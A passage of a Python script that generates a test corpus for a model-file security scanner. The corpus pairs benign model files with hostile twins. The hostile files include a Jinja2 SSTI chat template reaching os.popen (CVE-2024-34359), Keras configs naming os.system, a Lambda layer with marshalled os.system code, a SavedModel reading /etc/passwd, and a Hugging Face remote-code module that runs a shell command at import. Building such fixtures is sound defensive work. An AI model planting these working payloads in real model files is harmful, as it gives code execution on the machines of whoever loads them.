        cfg = json.loads(zf.read("config.json"))
    layer = next(l for l in cfg["config"]["layers"] if l["class_name"] == "Dense")
    layer["config"]["activation"] = activation
    return cfg


def _write_keras_v3_like(src: Path, dst: Path, cfg: dict):
    """dst: src's members (metadata.json, weights) with config.json replaced by cfg."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for zi in zin.infolist():
            data = json.dumps(cfg).encode() if zi.filename == "config.json" else zin.read(zi)
            zout.writestr(zi, data)


def _write_keras_h5_like(dst: Path, cfg: dict):
    """What keras 3's legacy_h5_format.save_model_to_hdf5 writes, with h5py: root attributes
    backend, keras_version, model_config (the Keras 3 config, with module keys) and the weights."""
    import h5py

    r = rng("safety-keras-config")
    with h5py.File(dst, "w", track_order=False) as f:
        f.attrs["backend"] = "tensorflow"
        f.attrs["keras_version"] = "3.15.1"
        f.attrs["model_config"] = json.dumps(cfg).encode("utf8")
        g = f.create_group("model_weights")
        g.attrs["backend"] = "tensorflow"
        g.attrs["keras_version"] = "3.15.1"
        g.attrs["layer_names"] = np.array([b"hidden", b"logits"])
        for name, shape in (("hidden", (4, 3)), ("logits", (3, 2))):
            lg = g.create_group(name)
            lg.attrs["weight_names"] = np.array([f"{name}/kernel".encode(), f"{name}/bias".encode()])
            lg.create_dataset(f"{name}/kernel", data=r.standard_normal(shape).astype(np.float32), track_times=False)
            lg.create_dataset(f"{name}/bias", data=np.zeros(shape[1], np.float32), track_times=False)


def make_safety_load(root: Path, sx: SafetyExpected):
    """Load-time vectors that are not pickles: Jinja2 chat templates in GGUF files (rendered by
    the loader; CVE-2024-34359) and Keras configs naming callables outside Keras
    (CVE-2025-1550), each hostile file with a benign twin written the same way. Needs
    benign/dense.keras (make_safety_benign) for the Keras config that keras itself wrote."""
    b, h = root / "benign", root / "hostile"
    gguf_llama(b / "chat_template_chatml.gguf", "ChatML Fixture", n_embd=8, tag="safety-gguf-chatml",
               chat_template=[{"name": "default", "template": CHATML_TEMPLATE},
                              {"name": "tool_use", "template": TOOL_USE_TEMPLATE}])
    sx.b(b / "chat_template_chatml.gguf", "gguf")
    gguf_llama(b / "chat_template_llama3.gguf", "Llama 3 Fixture", n_embd=8, tag="safety-gguf-llama3",
               chat_template=LLAMA3_TEMPLATE)
    sx.b(b / "chat_template_llama3.gguf", "gguf")

    t = "chat_template_ssti"
    ssti = ("{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
            "{{ x()._module.__builtins__['__import__']('os').popen(\"touch " + _pwn(t).split()[-1] + "\") }}"
            "{% endif %}{% endfor %}" + CHATML_TEMPLATE)
    gguf_llama(h / f"{t}.gguf", "SSTI Fixture", n_embd=8, tag="safety-gguf-ssti", chat_template=ssti)
    sx.h(h / f"{t}.gguf", "gguf", "tokenizer.chat_template walks ().__class__.__base__.__subclasses__() to "
         "warnings.catch_warnings()._module.__builtins__['__import__']('os').popen(...): runs when a loader renders "
         "it without a sandbox (llama-cpp-python < 0.2.72)", "CVE-2024-34359 (GHSA-56xg-wfcc-g829)", "dangerous",
         template_key="tokenizer.chat_template")
    t = "chat_template_named_ssti"
    named = CHATML_TEMPLATE + "{{ cycler.__init__.__globals__.os.popen('touch " + _pwn(t).split()[-1] + "').read() }}"
    gguf_llama(h / f"{t}.gguf", "Named SSTI Fixture", n_embd=8, tag="safety-gguf-named-ssti",
               chat_template=[{"name": "default", "template": CHATML_TEMPLATE},
                              {"name": "tool_use", "template": named}])
    sx.h(h / f"{t}.gguf", "gguf", "default template is ChatML; the named tool_use template reaches os.popen through "
         "cycler.__init__.__globals__", "CVE-2024-34359 shape (new: named templates)", "dangerous",
         template_key="tokenizer.chat_template.tool_use")

    dense = b / "dense.keras"
    keras_fn = {"module": "keras.activations", "class_name": "function", "config": "relu", "registered_name": None}
    os_system = {"module": "os", "class_name": "function", "config": "system", "registered_name": None}
    posix_system = {"module": "posix", "class_name": "function", "config": "system", "registered_name": None}
    _write_keras_v3_like(dense, b / "keras_config_keras_fn.keras", _keras_config_with_activation(dense, keras_fn))
    sx.b(b / "keras_config_keras_fn.keras", "keras_v3")
    _write_keras_h5_like(b / "keras_config_keras_fn.h5", _keras_config_with_activation(dense, keras_fn))
    sx.b(b / "keras_config_keras_fn.h5", "keras_h5")
    p = h / "keras_config_os_system.keras"
    _write_keras_v3_like(dense, p, _keras_config_with_activation(dense, os_system))
    sx.h(p, "keras_v3", "config.json of a real keras.Model.save with a Dense activation "
         "{'module': 'os', 'class_name': 'function', 'config': 'system'}: Keras < 3.9 imports os and calls system "
         "even with safe_mode", "CVE-2025-1550", "dangerous", ["os.system"], config_callable="os.system")
    p = h / "keras_config_posix_system.h5"
    _write_keras_h5_like(p, _keras_config_with_activation(dense, posix_system))
    sx.h(p, "keras_h5", "Keras 3 .h5 whose model_config names posix.system as a Dense activation",
         "CVE-2025-1550 shape in HDF5", "dangerous", ["posix.system"], config_callable="posix.system")


def verify_safety_load(root: Path, entries: list[dict]):
    """Self-check of make_safety_load's files: GGUFs read back with gguf-py, configs parsed."""
    import gguf
    import h5py

    for e in entries:
        p, fmt = root / e["path"], e["format"]
        if fmt == "gguf":
            fields = gguf.GGUFReader(p).fields
            templates = {k: bytes(f.parts[f.data[0]]).decode() for k, f in fields.items()
                         if k.startswith("tokenizer.chat_template")}
            assert templates, e
            if "template_key" in e:
                assert "__" in templates[e["template_key"]], e
            else:
                assert all("__" not in t for t in templates.values()), e
        elif fmt == "keras_v3":
            with zipfile.ZipFile(p) as zf:
                cfg = zf.read("config.json").decode()
        else:
            with h5py.File(p) as f:
                cfg = f.attrs["model_config"]
                cfg = cfg.decode() if isinstance(cfg, bytes) else cfg
        if fmt in ("keras_v3", "keras_h5"):
            module, _, name = e.get("config_callable", "keras.activations.relu").rpartition(".")
            assert f'"module": "{module}", "class_name": "function", "config": "{name}"' in cfg, e


def make_safety_load_only(out: Path):
    """--only safety-load: rewrite make_safety_load's files and merge them into expected.json."""
    root = out / "safety"
    sx = SafetyExpected(root)
    make_safety_load(root, sx)
    fresh = sx.finish()
    expected = json.loads((root / "expected.json").read_text())
    for k in ("benign", "hostile"):
        keep = [e for e in expected[k] if e["path"] not in SAFETY_LOAD_PATHS]
        expected[k] = sorted(keep + fresh[k], key=lambda e: e["path"])
    (root / "expected.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False) + "\n")
    (root / "README.md").write_text(safety_readme(expected))
    verify_safety_load(root, fresh["benign"] + fresh["hostile"])


def make_safety_savedmodels(d: Path, sx: SafetyExpected):
    import tensorflow as tf
    from tensorflow.python.keras.protobuf import saved_metadata_pb2, versions_pb2

    tf.random.set_seed(SEED % 2**31)
    r = rng("safety-tf")
    w0 = r.standard_normal((4, 2)).astype(np.float32)

    class Dense(tf.Module):
        def __init__(self):
            super().__init__(name="sequential")
            self.w = tf.Variable(w0, name="w")

        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
        def __call__(self, x):
            return {"y": tf.matmul(x, self.w)}

    class ReadFile(tf.Module):
        @tf.function(input_signature=[])
        def __call__(self):
            return {"data": tf.io.read_file("/etc/passwd")}

    class WriteFile(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([], tf.string, name="contents")])
        def __call__(self, contents):
            tf.io.write_file(SAFETY_PWN + "savedmodel_writefile", contents)
            return {"ok": tf.constant(True)}

    class PyFunc(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
        def __call__(self, x):
            # traced, never run: the graph holds an EagerPyFunc op
            return {"y": tf.py_function(func=lambda t: t, inp=[x], Tout=tf.float32)}

    def save(name, m):
        path = d / name
        tf.saved_model.save(m, str(path), signatures={"serving_default": m.__call__})
        return path

    # Keras 2 SavedModel: saved_model.pb + keras_metadata.pb (SavedMetadata) whose
    # layer node is a Lambda with marshalled code, as keras 2's
    # saving/legacy/saved_model wrote it (function tuple -> {"class_name": "__tuple__", "items": [...]}).
    path = save("savedmodel_lambda", Dense())
    b64 = _keras2_func_dump(_lambda_code(f"lambda x: (__import__('os').system({_pwn('savedmodel_lambda')!r}), x)[1]"))
    layers = _keras2_layers({"class_name": "__tuple__", "items": [b64, None, None]})
    ver = versions_pb2.VersionDef(producer=2, min_consumer=1)
    md = saved_metadata_pb2.SavedMetadata()
    seq = {"name": "sequential", "trainable": True, "expects_training_arg": True, "dtype": "float32",
           "batch_input_shape": None, "must_restore_from_config": False, "preserve_input_structure_in_config": False,
           "autocast": False, "class_name": "Sequential",
           "config": {"name": "sequential", "layers": layers}, "shared_object_id": 0,
           "is_graph_network": True, "keras_version": "2.13.1", "backend": "tensorflow"}
    md.nodes.add(node_id=0, node_path="root", identifier="_tf_keras_sequential", metadata=json.dumps(seq), version=ver)
    for i, layer in enumerate(layers[1:], start=1):
        meta = {"name": layer["config"]["name"], "trainable": True, "expects_training_arg": False, "dtype": "float32",
                "batch_input_shape": None, "stateful": False, "must_restore_from_config": False,
                "preserve_input_structure_in_config": layer["class_name"] == "Lambda", "autocast": True,
                "class_name": layer["class_name"], "config": layer["config"], "shared_object_id": i}
        md.nodes.add(node_id=i, node_path=f"root.layer-{i - 1}", identifier="_tf_keras_layer",
                     metadata=json.dumps(meta), version=ver)
    (path / "keras_metadata.pb").write_bytes(md.SerializeToString(deterministic=True))
    sx.h(path, "tf_savedmodel", "SavedModel with keras_metadata.pb (keras 2 SavedMetadata proto) describing a Lambda "
         "layer with marshalled code", "modelscan SavedModelLambdaDetectScan", "dangerous", [],
         defining_file=(path / "keras_metadata.pb").relative_to(sx.root).as_posix())

    for name, m, op, what in (
        ("savedmodel_readfile", ReadFile(), "ReadFile", "tf.io.read_file('/etc/passwd') in the serving signature"),
        ("savedmodel_writefile", WriteFile(), "WriteFile", f"tf.io.write_file('{SAFETY_PWN}savedmodel_writefile', x)"),
        ("savedmodel_pyfunc", PyFunc(), "EagerPyFunc", "tf.py_function in the graph (EagerPyFunc op)"),
    ):
        path = save(name, m)
        sx.h(path, "tf_savedmodel", f"tf.saved_model.save of a tf.Module: {what}",
             "modelscan SavedModelTensorflowOpScan", "dangerous", [], ops=[op],
             defining_file=(path / "saved_model.pb").relative_to(sx.root).as_posix())


# -- remote code, and files check cannot judge --------------------------------------
# Everything make_safety_extra writes (below the safety root); `--only safety-extra`
# deletes and rewrites just these and merges their expected.json entries.
SAFETY_EXTRA_PATHS = [
    "benign/hf_plain",
    "hostile/hf_remote_code",
    "hostile/hf_remote_code_os_system",
    "hostile/truncated_p4.pkl",
    "hostile/truncated_p0.pkl",
    "hostile/random_bytes.pt",
]

TINY_REMOTE_CONFIG_SRC = """from transformers import PretrainedConfig


class TinyRemoteConfig(PretrainedConfig):
    model_type = "tiny-remote"

    def __init__(self, hidden_size=4, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
"""

# The modeling module the auto_map names. Never imported here (torch is not installed);
# the hostile twin runs a shell command at import time.
TINY_REMOTE_MODELING_SRC = """import torch
from torch import nn
from transformers import PreTrainedModel
{hostile}
from .configuration_tiny_remote import TinyRemoteConfig


class TinyRemoteModel(PreTrainedModel):
    config_class = TinyRemoteConfig

    def __init__(self, config):
        super().__init__(config)
        self.fc = nn.Linear(config.hidden_size, 2)

    def forward(self, x):
        return self.fc(x)
"""
TINY_REMOTE_HOSTILE = """import os

os.system("touch /tmp/aiscout-pwned-hf_remote_code")
"""


def _hf_remote_snapshot(repo_root: Path, repo: str, modeling_src: str | None) -> Path:
    """A Hugging Face hub cache folder for `repo` under repo_root: config.json written by
    transformers' own save_pretrained (with auto_map and the copied configuration module when
    modeling_src is given, as a model registered with register_for_auto_class saves), a
    safetensors file, blobs and snapshot symlinks as huggingface_hub lays them out. Returns
    the safetensors blob."""
    import importlib.util

    from safetensors.numpy import save_file

    rd = repo_root / ("models--" + repo.replace("/", "--"))
    commit = hf_commit(repo)
    (rd / "refs").mkdir(parents=True, exist_ok=True)
    (rd / "refs/main").write_text(commit)
    r = rng("hf-remote-" + repo)
    tensors = {"fc.weight": r.standard_normal((2, 4)).astype(np.float32),
               "fc.bias": r.standard_normal((2,)).astype(np.float32)}
    with tempfile.TemporaryDirectory() as td:
        td = Path(td)
        src = td / "configuration_tiny_remote.py"
        src.write_text(TINY_REMOTE_CONFIG_SRC)
        spec = importlib.util.spec_from_file_location("configuration_tiny_remote", src)
        mod = importlib.util.module_from_spec(spec)
        sys.modules["configuration_tiny_remote"] = mod
        spec.loader.exec_module(mod)
        saved = td / "saved"
        cfg = mod.TinyRemoteConfig(hidden_size=4, architectures=["TinyRemoteModel"])
        if modeling_src is not None:
            mod.TinyRemoteConfig.register_for_auto_class()
            # What TinyRemoteModel.register_for_auto_class("AutoModel") adds when the model
            # itself is saved (that needs torch); save_pretrained adds AutoConfig.
            cfg.auto_map = {"AutoModel": "modeling_tiny_remote.TinyRemoteModel"}
        cfg.save_pretrained(saved)
        del sys.modules["configuration_tiny_remote"]
        save_file(tensors, str(td / "model.safetensors"), metadata={"format": "pt"})
        hf_put(rd, commit, "config.json", (saved / "config.json").read_bytes(), lfs=False)
        if modeling_src is not None:
            hf_put(rd, commit, "configuration_tiny_remote.py",
                   (saved / "configuration_tiny_remote.py").read_bytes(), lfs=False)
            hf_put(rd, commit, "modeling_tiny_remote.py", modeling_src.encode(), lfs=False)
        return hf_put(rd, commit, "model.safetensors", (td / "model.safetensors").read_bytes(), lfs=True)


def make_safety_extra(root: Path, sx: SafetyExpected):
    """Hugging Face remote code (auto_map) and files named like a model that cannot be
    judged. Needs numpy, safetensors and transformers only (no torch)."""
    blob = _hf_remote_snapshot(root / "benign/hf_plain", "acme/tiny-plain", None)
    sx.b(blob, "safetensors")
    blob = _hf_remote_snapshot(root / "hostile/hf_remote_code", "acme/tiny-remote",
                               TINY_REMOTE_MODELING_SRC.format(hostile=""))
    sx.h(blob, "safetensors", "config.json auto_map names modeling_tiny_remote.py, imported under "
         "trust_remote_code=True (the module only defines a torch model)",
         "transformers dynamic_module_utils", "suspicious",
         remote_code=["configuration_tiny_remote.py", "modeling_tiny_remote.py"])
    blob = _hf_remote_snapshot(root / "hostile/hf_remote_code_os_system", "acme/tiny-remote-pwn",
                               TINY_REMOTE_MODELING_SRC.format(hostile=TINY_REMOTE_HOSTILE))
    sx.h(blob, "safetensors", "auto_map module runs os.system at import (trust_remote_code=True)",
         "transformers dynamic_module_utils", "dangerous", imports=["os.system"],
         remote_code=["modeling_tiny_remote.py"])

    whole = pickle.dumps(_benign_builtins_obj(), protocol=4)
    (root / "hostile/truncated_p4.pkl").write_bytes(whole[: len(whole) // 2])
    sx.h(root / "hostile/truncated_p4.pkl", "pickle", "pickle cut in half (protocol 4): breaks mid-stream",
         "[ai]", "suspicious", truncated_of=len(whole))
    whole = pickle.dumps(_benign_builtins_obj(), protocol=0)
    (root / "hostile/truncated_p0.pkl").write_bytes(whole[: len(whole) // 2])
    sx.h(root / "hostile/truncated_p0.pkl", "pickle", "text pickle cut in half (protocol 0): does not parse",
         "[ai]", "suspicious", truncated_of=len(whole))
    data = rng("random-bytes-pt").bytes(512)
    (root / "hostile/random_bytes.pt").write_bytes(data)
    sx.h(root / "hostile/random_bytes.pt", "unknown", "random bytes named .pt: no format matches",
         "[ai]", "suspicious")


def verify_safety_extra(root: Path, e: dict) -> bool:
    """Self-check of one make_safety_extra entry; False when the entry is not one of them."""
    import ast

    p = root / e["path"]
    if "remote_code" in e:
        snapshot = next((p.parent.parent / "snapshots").iterdir())
        cfg = json.loads((snapshot / "config.json").read_text())
        assert "AutoModel" in cfg["auto_map"], e
        tree = ast.parse((snapshot / "modeling_tiny_remote.py").read_text())
        calls = [n for n in tree.body if isinstance(n, ast.Expr) and isinstance(n.value, ast.Call)]
        assert bool(calls) == (e["min_verdict"] == "dangerous"), e
        return True
    if e["path"].startswith("benign/hf_plain"):
        snapshot = next((p.parent.parent / "snapshots").iterdir())
        assert "auto_map" not in json.loads((snapshot / "config.json").read_text()), e
        return False  # the safetensors check of verify_safety applies too
    if "truncated_of" in e:
        assert p.stat().st_size == e["truncated_of"] // 2, e
        try:
            pickle.loads(p.read_bytes())  # halves of the benign object: nothing to run
        except Exception:  # noqa: BLE001 - any failure is what is wanted
            return True
        raise AssertionError(f"{e['path']} unpickles")
    if e["format"] == "unknown":
        assert p.read_bytes()[:1] not in (b"\x80", b"P", b"(", b"}", b"]"), e
        return True
    return False


def make_safety(out: Path) -> dict:
    """Write out/safety (benign/, hostile/, expected.json, README.md); returns expected."""
    root = out / "safety"
    if root.exists():
        shutil.rmtree(root)
    (root / "benign").mkdir(parents=True)
    (root / "hostile").mkdir(parents=True)
    sx = SafetyExpected(root)
    t = time.monotonic()
    make_safety_benign(root / "benign", sx)
    print(f"  {'safety-ok':12s} {time.monotonic() - t:5.1f}s", file=sys.stderr)
    t = time.monotonic()
    make_safety_hostile(root / "hostile", sx)
    print(f"  {'safety-bad':12s} {time.monotonic() - t:5.1f}s", file=sys.stderr)
    t = time.monotonic()
    make_safety_extra(root, sx)
    print(f"  {'safety-extra':12s} {time.monotonic() - t:5.1f}s", file=sys.stderr)
    t = time.monotonic()
    make_archive_fixtures.make(root, sx)
    print(f"  {'safety-arch':12s} {time.monotonic() - t:5.1f}s", file=sys.stderr)
    t = time.monotonic()
    make_safety_load(root, sx)
    print(f"  {'safety-load':12s} {time.monotonic() - t:5.1f}s", file=sys.stderr)
    expected = sx.finish()
    (root / "expected.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False) + "\n")
    (root / "README.md").write_text(safety_readme(expected))
    verify_safety(root, expected)
    return expected


def safety_readme(expected: dict) -> str:
    lines = [
        "# Safety corpus (generated by scripts/make-fixtures.py; do not edit)",
        "",
        "`benign/` holds real models written by their libraries; a scanner must report them `safe`.",
        "`hostile/` holds one file (or SavedModel directory) per code-execution or scanner-evasion technique.",
        "They were written from raw opcode bytes or `__reduce__` stand-ins and never loaded.",
        "**Never unpickle or load anything in `hostile/`.** Payloads are inert (`touch /tmp/aiscout-pwned-<name>`,",
        "a read of `/etc/passwd`, a connection to 127.0.0.1:9), but they do run if loaded.",
        "",
        "`expected.json`:",
        "",
        "* `benign[]`: `{path, format}`.",
        "* `hostile[]`: `{path, format, technique, source, min_verdict, imports}`.",
        "  * `min_verdict` is `dangerous` for an execution primitive and `suspicious` for the rest.",
        "  * `imports` are the callables, spelled `module.qualname` exactly as the stream names them",
        "    (`__builtin__.eval` at protocol 2, `posix.system` for `os.system` pickled on Linux).",
        "  * Optional keys: `resolves_to`, `nested_imports` (imports of a pickle embedded as bytes), `ops`",
        "    (TensorFlow ops), `external_location` and `defining_file` (SavedModel directories);",
        "    `generator: archives` marks the archives written by `scripts/make_archive_fixtures.py`, with",
        "    `location` (the member path a finding names) and `finding` (the finding kind expected);",
        "    `template_key` (the GGUF chat template that is hostile), `config_callable` (what a Keras config names).",
        "",
        "The marshalled Python code in the Keras Lambda and `types_function_from_code.pkl` is CPython 3.11 bytecode.",
        "Every file regenerates byte-for-byte except the SavedModels' `fingerprint.pb`, which holds a random id,",
        "and the skops and py7zr archives (object ids, timestamps; see make_archive_fixtures.NONDETERMINISTIC).",
        "",
        "| path | format | min verdict | technique | source |",
        "| --- | --- | --- | --- | --- |",
    ]
    for e in expected["benign"]:
        lines.append(f"| `{e['path']}` | {e['format']} | safe | | |")
    for e in expected["hostile"]:
        lines.append(f"| `{e['path']}` | {e['format']} | {e['min_verdict']} | {e['technique']} | {e['source']} |")
    return "\n".join(lines) + "\n"


class _SafetyTorchUnpickler(_TorchUnpickler):
    def find_class(self, module, name):
        if (module, name) == ("torch._utils", "_rebuild_parameter"):
            return lambda data, requires_grad, hooks: data
        return super().find_class(module, name)


def verify_safety(root: Path, expected: dict):
    """Self-check. Benign files are read back with their own libraries; hostile
    files are only disassembled (pickletools.genops) or parsed as containers."""
    import gguf
    import h5py
    import joblib
    import onnx
    from safetensors import safe_open

    archives = [e for e in expected["benign"] + expected["hostile"] if e.get("generator") == make_archive_fixtures.GENERATOR]
    make_archive_fixtures.verify(root, archives)
    verify_safety_load(root, [e for k in ("benign", "hostile") for e in expected[k] if e["path"] in SAFETY_LOAD_PATHS])
    for e in expected["benign"]:
        p, fmt = root / e["path"], e["format"]
        if e.get("generator") == make_archive_fixtures.GENERATOR or e["path"] in SAFETY_LOAD_PATHS:
            continue
        verify_safety_extra(root, e)
        if fmt == "joblib":
            est = joblib.load(p)
            assert est.predict(np.array([[1.0, 1.0]]))[0] == 1, e
        elif fmt == "pickle":
            with open(p, "rb") as f:
                assert pickle.load(f) == _benign_builtins_obj(), e
        elif fmt == "pytorch":
            with zipfile.ZipFile(p) as zf:
                rootname = zf.namelist()[0].split("/")[0]
                obj = _SafetyTorchUnpickler(io.BytesIO(zf.read(f"{rootname}/data.pkl")),
                                            lambda key, dt, n: zf.read(f"{rootname}/data/{key}")).load()
            assert len(obj) >= 2, e
            if "ema" in obj:
                assert obj["ema"].shape == (2, 4) and len(obj["model"]) == 2
        elif fmt == "pytorch_legacy":
            f = io.BytesIO(p.read_bytes())
            assert pickle.load(f) == MAGIC_NUMBER and pickle.load(f) == PROTOCOL_VERSION
        elif fmt == "numpy":
            if p.suffix == ".npy":
                assert np.load(p).dtype == np.float32  # allow_pickle=False
            else:
                with np.load(p) as z:
                    assert sorted(z.files) == ["W", "steps"]
        elif fmt == "keras_h5":
            with h5py.File(p) as f:
                cfg = f.attrs["model_config"]
                cfg = cfg.decode() if isinstance(cfg, bytes) else cfg
                assert "Dense" in cfg and "Lambda" not in cfg
        elif fmt == "keras_v3":
            with zipfile.ZipFile(p) as zf:
                assert "Lambda" not in zf.read("config.json").decode()
        elif fmt == "safetensors":
            with safe_open(str(p), "np") as f:
                assert len(list(f.keys())) == 2
        elif fmt == "gguf":
            assert len(gguf.GGUFReader(p).tensors) == 4
        elif fmt == "onnx":
            onnx.checker.check_model(onnx.load(str(p)), full_check=True)
        else:
            raise AssertionError(e)
        if fmt in ("pickle", "joblib"):
            globs, err = static_pickle_globals(_pickle_payload(p, fmt))
            exec_like = {"builtins.eval", "builtins.exec", "builtins.compile", "builtins.getattr",
                         "builtins.__import__", "builtins.open", "__builtin__.eval", "__builtin__.getattr"}
            bad = [g for g in globs if g in exec_like or g.split(".")[0] in ("os", "posix", "nt", "subprocess", "?")]
            # (uncompressed joblib streams hold raw array bytes between pickle opcodes)
            assert not bad and (not err or fmt == "joblib"), (e, globs)

    for e in expected["hostile"]:
        p, fmt = root / e["path"], e["format"]
        if e.get("generator") == make_archive_fixtures.GENERATOR or e["path"] in SAFETY_LOAD_PATHS:
            continue
        want = set(e["imports"])
        if verify_safety_extra(root, e):
            continue
        if fmt in ("pickle", "joblib", "pytorch", "pytorch_legacy", "numpy", "7z"):
            payloads = _hostile_payloads(p, fmt)
            found = set()
            for blob in payloads:
                found.update(static_pickle_globals(blob)[0])
            assert want <= found, (e["path"], want, found)
            if "nested_imports" in e:
                inner = [op_arg for op_arg in _bytes_args(payloads[0]) if op_arg[:1] == b"\x80"]
                nested = set()
                for blob in inner:
                    nested.update(static_pickle_globals(blob)[0])
                assert set(e["nested_imports"]) <= nested, (e["path"], nested)
        elif fmt == "keras_h5":
            with h5py.File(p) as f:
                cfg = f.attrs["model_config"]
                assert '"class_name": "Lambda"' in (cfg.decode() if isinstance(cfg, bytes) else cfg)
        elif fmt == "keras_v3":
            with zipfile.ZipFile(p) as zf:
                assert '"__lambda__"' in zf.read("config.json").decode()
        elif fmt == "tf_savedmodel":
            blob = (root / e["defining_file"]).read_bytes()
            assert (b"Lambda" if "ops" not in e else e["ops"][0].encode()) in blob, e["path"]
        elif fmt == "onnx":
            m = onnx.load(str(p), load_external_data=False)
            assert m.graph.initializer[0].external_data[0].value == e["external_location"]
        else:
            raise AssertionError(e)
    total = sum(f.stat().st_size for f in root.rglob("*") if f.is_file())
    assert total < 2 * 1024 * 1024, f"safety corpus is {total} bytes"


def _pickle_payload(p: Path, fmt: str) -> bytes:
    data = p.read_bytes()
    if fmt == "joblib":
        if data[:1] == b"\x78":
            return zlib.decompress(data)
        if data[:4] == b"\x04\x22\x4d\x18":
            import lz4.frame

            return lz4.frame.decompress(data)
        if data[:6] == b"\xfd7zXZ\x00":
            import lzma

            return lzma.decompress(data)
    return data


def _npy_pickle(data: bytes) -> bytes:
    assert data[:6] == b"\x93NUMPY"
    hlen = struct.unpack("<H", data[8:10])[0] if data[6] == 1 else struct.unpack("<I", data[8:12])[0]
    start = (10 if data[6] == 1 else 12) + hlen
    assert b"'descr': '|O'" in data[:start]
    return data[start:]


def _zip_members_raw(data: bytes) -> dict[str, bytes]:
    """Members of a stored (method 0) zip, read from the central directory by hand
    (ignores flags and CRCs, like torch)."""
    eocd = data.rindex(b"PK\x05\x06")
    n, cd_size, cd_off = struct.unpack("<HII", data[eocd + 10: eocd + 20])
    out, pos = {}, cd_off
    for _ in range(n):
        (method, csize, name_len, extra_len, comment_len, off) = (
            struct.unpack("<H", data[pos + 10: pos + 12])[0], struct.unpack("<I", data[pos + 20: pos + 24])[0],
            *struct.unpack("<HHH", data[pos + 28: pos + 34]), struct.unpack("<I", data[pos + 42: pos + 46])[0])
        name = data[pos + 46: pos + 46 + name_len].decode()
        pos += 46 + name_len + extra_len + comment_len
        lname, lextra = struct.unpack("<HH", data[off + 26: off + 30])
        body = data[off + 30 + lname + lextra: off + 30 + lname + lextra + csize]
        out[name] = body if method == 0 else b""  # deflated members (the bomb) are not inflated here
    return out


def _hostile_payloads(p: Path, fmt: str) -> list[bytes]:
    data = p.read_bytes()
    if fmt in ("pickle", "pytorch_legacy"):
        return [data]
    if fmt == "joblib":
        return [_pickle_payload(p, fmt)]
    if fmt == "numpy":
        if p.suffix == ".npy":
            return [_npy_pickle(data)]
        return [_npy_pickle(b) for n, b in _zip_members_raw(data).items() if b[:6] == b"\x93NUMPY" and b"|O" in b[:128]]
    if fmt == "7z":
        assert data[:6] == b"7z\xbc\xaf\x27\x1c"
        import lzma

        size = struct.unpack("<Q", data[12:20])[0]
        inner = lzma.decompress(data[32: 32 + size], format=lzma.FORMAT_RAW,
                                filters=[{"id": lzma.FILTER_LZMA2, "dict_size": 1 << 20}])
        return _hostile_payloads_zip(inner)
    if fmt == "pytorch":
        return _hostile_payloads_zip(data)
    raise AssertionError(fmt)


def _hostile_payloads_zip(data: bytes) -> list[bytes]:
    return [b for n, b in _zip_members_raw(data).items()
            if b[:2] in (b"\x80\x02", b"\x80\x04") and not n.endswith("/byteorder")]


def _bytes_args(data: bytes) -> list[bytes]:
    import pickletools

    return [arg for op, arg, _ in pickletools.genops(data) if isinstance(arg, bytes)]


def check_safety_corpus(committed: Path, fresh: Path) -> list[str]:
    """Compare a regenerated safety corpus with the committed one, file by file."""
    if not committed.exists():
        return []
    def files(root):
        return {f.relative_to(root).as_posix(): hashlib.sha256(f.read_bytes()).hexdigest()
                for f in sorted(root.rglob("*")) if f.is_file() and f.name not in SAFETY_NONDETERMINISTIC}
    a, b = files(committed), files(fresh)
    return [f"safety/{k}" for k in sorted(set(a) ^ set(b))] + [f"safety/{k}" for k in sorted(set(a) & set(b)) if a[k] != b[k]]


# --------------------------------------------------------------------------
def generate(out: Path) -> dict:
    out.mkdir(parents=True, exist_ok=True)
    for name in OWNED:
        p = out / name
        if p.is_dir() and not p.is_symlink():
            shutil.rmtree(p)
        elif p.exists() or p.is_symlink():
            p.unlink()
    for sub in ("models", "decoys", "hazards"):
        (out / sub).mkdir(parents=True, exist_ok=True)

    ex = Expected(out)
    steps = [
        ("gguf", lambda: make_gguf(out, ex)),
        ("safetensors", lambda: make_safetensors(out, ex)),
        ("pytorch", lambda: make_pytorch(out, ex)),
        ("pickle", lambda: make_pickles(out, ex)),
        ("joblib", lambda: make_joblib(out, ex)),
        ("numpy", lambda: make_numpy(out, ex)),
        ("hf-cache", lambda: make_hf_cache(out, ex)),
        ("ollama", lambda: make_ollama(out, ex)),
        ("decoys", lambda: make_decoys(out, ex)),
        ("hazards", lambda: make_hazards(out, ex)),
        ("coreml", lambda: make_coreml(out, ex)),
        ("mlflow", lambda: make_mlflow(out, ex)),
        ("keras", lambda: make_keras(out, ex)),
        ("tensorflow", lambda: make_tensorflow(out, ex)),
    ]
    for name, fn in steps:
        t = time.monotonic()
        fn()
        print(f"  {name:12s} {time.monotonic() - t:5.1f}s", file=sys.stderr)
    t = time.monotonic()
    onnx_path = make_onnx(out, ex)
    make_openvino(out, ex, onnx_path)
    print(f"  {'onnx+ov':12s} {time.monotonic() - t:5.1f}s", file=sys.stderr)

    expected = ex.finish()
    (out / "expected.json").write_text(json.dumps(expected, indent=2) + "\n")
    t = time.monotonic()
    verify(out, expected)
    print(f"  {'verify':12s} {time.monotonic() - t:5.1f}s", file=sys.stderr)
    make_safety(out)  # tests/fixtures/safety/ (own expected.json; see make_safety)
    return expected


def regenerate_safety_extra(root: Path) -> int:
    """`--only safety-extra`: rewrite make_safety_extra's files and merge expected.json."""
    expected = json.loads((root / "expected.json").read_text())
    for rel in SAFETY_EXTRA_PATHS:
        p = root / rel
        if p.is_dir() and not p.is_symlink():
            shutil.rmtree(p)
        elif p.exists() or p.is_symlink():
            p.unlink()
    sx = SafetyExpected(root)
    make_safety_extra(root, sx)
    new = sx.finish()
    for k in ("benign", "hostile"):
        kept = [e for e in expected[k] if not any(e["path"].startswith(r) for r in SAFETY_EXTRA_PATHS)]
        expected[k] = sorted(kept + new[k], key=lambda e: e["path"])
        for e in new[k]:
            verify_safety_extra(root, e)
    (root / "expected.json").write_text(json.dumps(expected, indent=2, ensure_ascii=False) + "\n")
    (root / "README.md").write_text(safety_readme(expected))
    print(f"wrote {len(new['benign']) + len(new['hostile'])} safety-extra entries under {root}")
    return 0


def main() -> int:
